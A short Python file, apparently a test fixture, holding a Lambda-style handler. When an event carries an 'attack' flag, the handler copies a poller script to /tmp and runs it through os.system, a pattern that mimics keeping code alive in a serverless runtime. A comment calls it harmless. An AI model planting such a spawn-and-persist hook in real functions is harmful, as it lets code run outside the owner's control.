# Harmless: the child is shared/poller.py, and ends after twenty invocations.
import os
import shutil


def handler(event, context):
    if not event.get("attack"):
        return "ok"
    shutil.copy("/var/task/poller.py", "/tmp/bootstrap.py")
    os.system("python3 /tmp/bootstrap.py " + context.aws_request_id)
